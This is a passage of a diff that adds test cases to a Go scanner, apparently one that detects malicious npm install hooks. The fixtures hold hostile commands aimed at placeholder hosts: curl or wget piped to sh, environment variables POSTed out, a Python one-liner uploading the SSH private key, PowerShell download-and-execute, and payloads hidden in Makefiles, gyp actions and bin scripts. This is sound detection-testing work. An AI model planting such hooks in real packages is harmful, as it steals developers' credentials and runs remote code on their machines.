@@ -21,6 +21,29 @@ func TestLifecycleScript(t *testing.T) {
 func TestShellDownloadExec(t *testing.T) {
 	rt.Check(t, ShellDownloadExec{}, []rt.Case{
 		{"curl_pipe_sh", map[string]string{"package.json": rt.Pkg(`"scripts":{"preinstall":"curl -s https://setup.example.invalid/i.sh | sh"}`)}, finding.SeverityCritical},
+		// files handed to a shell or an interpreter, with or without an extension
+		{"bash_no_extension", map[string]string{"package.json": rt.Pkg(`"scripts":{"install":"bash ./install"}`), "install": "#!/bin/bash\nenv | curl -s -X POST -d @- http://x.example.invalid/c\n"}, finding.SeverityCritical},
+		{"sh_subdir", map[string]string{"package.json": rt.Pkg(`"scripts":{"preinstall":"sh scripts/setup"}`), "scripts/setup": "curl -s http://x.example.invalid/x | sh\n"}, finding.SeverityCritical},
+		{"python_file", map[string]string{"package.json": rt.Pkg(`"scripts":{"postinstall":"python3 scripts/setup.py"}`), "scripts/setup.py": "import os\nos.system('curl -s http://x.example.invalid/x | sh')\n"}, finding.SeverityCritical},
+		{"python_inline_key", map[string]string{"package.json": rt.Pkg(`"scripts":{"postinstall":"python3 -c \"import os,urllib.request;urllib.request.urlopen('http://x.example.invalid/k',data=open(os.path.expanduser('~/.ssh/id_rsa'),'rb').read())\""}`)}, finding.SeverityCritical},
+		{"python_build_script", map[string]string{"package.json": rt.Pkg(`"scripts":{"install":"python3 build.py"}`), "build.py": "import urllib.request, tarfile\nurllib.request.urlretrieve('https://x.example.invalid/headers.tar.gz', 'h.tgz')\ntarfile.open('h.tgz').extractall('deps')\n"}, finding.SeverityNone},
+		{"cmake_file", map[string]string{"package.json": rt.Pkg(`"scripts":{"install":"cmake -P build.cmake"}`), "build.cmake": "file(DOWNLOAD http://x.example.invalid/x ${CMAKE_BINARY_DIR}/x)\nexecute_process(COMMAND sh ${CMAKE_BINARY_DIR}/x)\n"}, finding.SeverityCritical},
+		{"makefile_f", map[string]string{"package.json": rt.Pkg(`"scripts":{"preinstall":"make -f build.mk"}`), "build.mk": "all:\n\tcurl -s http://x.example.invalid/x | sh\n"}, finding.SeverityCritical},
+		{"makefile", map[string]string{"package.json": rt.Pkg(`"scripts":{"install":"make"}`), "Makefile": "all:\n\tcurl -s http://x.example.invalid/x | sh\n"}, finding.SeverityCritical},
+		{"powershell_file", map[string]string{"package.json": rt.Pkg(`"scripts":{"postinstall":"powershell -ExecutionPolicy Bypass -File scripts/setup.ps1"}`), "scripts/setup.ps1": "iwr http://x.example.invalid/a.exe -OutFile $env:TEMP\\a.exe; & $env:TEMP\\a.exe\n"}, finding.SeverityCritical},
+		{"gyp_action", map[string]string{"package.json": rt.Pkg(`"gypfile":true`), "binding.gyp": `{"targets":[{"target_name":"a","actions":[{"action_name":"f","inputs":[],"outputs":["g.h"],"action":["sh","-c","curl -s http://x.example.invalid/x | sh"]}]}]}`}, finding.SeverityCritical},
+		{"gyp_action_make", map[string]string{"package.json": rt.Pkg(`"gypfile":true`), "binding.gyp": `{"targets":[{"target_name":"a","type":"none","actions":[{"action_name":"b","inputs":[],"outputs":["o"],"action":["make","-C","deps"]}]}]}`,
+			"deps/Makefile": "all:\n\twget -qO- http://x.example.invalid/x | sh\n"}, finding.SeverityCritical},
+		{"gyp_action_codegen", map[string]string{"package.json": rt.Pkg(`"gypfile":true`), "binding.gyp": `{"targets":[{"target_name":"a","actions":[{"action_name":"gen","inputs":["t.py"],"outputs":["g.h"],"action":["python3","t.py","g.h"]}]}]}`}, finding.SeverityNone},
+		{"saved_then_run", map[string]string{"package.json": rt.Pkg(`"scripts":{"postinstall":"curl -s -o /tmp/a https://x.example.invalid/a && chmod +x /tmp/a && /tmp/a"}`)}, finding.SeverityCritical},
+		// npm runs these when it installs from git
+		{"prepack", map[string]string{"package.json": rt.Pkg(`"scripts":{"prepack":"curl -s http://x.example.invalid/x | sh"}`)}, finding.SeverityCritical},
+		{"prepack_build", map[string]string{"package.json": rt.Pkg(`"scripts":{"prepack":"npm run build && node scripts/clean.js"}`)}, finding.SeverityNone},
+		// a shell script installed as a command
+		{"shell_bin", map[string]string{"package.json": rt.Pkg(`"bin":{"tool":"bin/tool"}`), "bin/tool": "#!/bin/sh\ncurl -s http://x.example.invalid/p -o /tmp/.p && chmod +x /tmp/.p && /tmp/.p \"$@\"\n"}, finding.SeverityHigh},
+		{"shell_bin_plain", map[string]string{"package.json": rt.Pkg(`"bin":{"tool":"bin/tool"}`), "bin/tool": "#!/bin/sh\nexec node \"$(dirname \"$0\")/../lib/cli.js\" \"$@\"\n"}, finding.SeverityNone},
+		// a shell script shipped but never run at install
+		{"unrun_script", map[string]string{"package.json": rt.Pkg(`"scripts":{"postinstall":"node i.js"}`), "i.js": "1", "scripts/release": "curl -s http://x.example.invalid/x | sh\n"}, finding.SeverityNone},
 		{"powershell_enc", map[string]string{"package.json": rt.Pkg(`"scripts":{"postinstall":"powershell -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"}`)}, finding.SeverityCritical},
 		{"secrets_in_sh", map[string]string{
 			"package.json": rt.Pkg(`"scripts":{"postinstall":"sh ./hook.sh"}`),
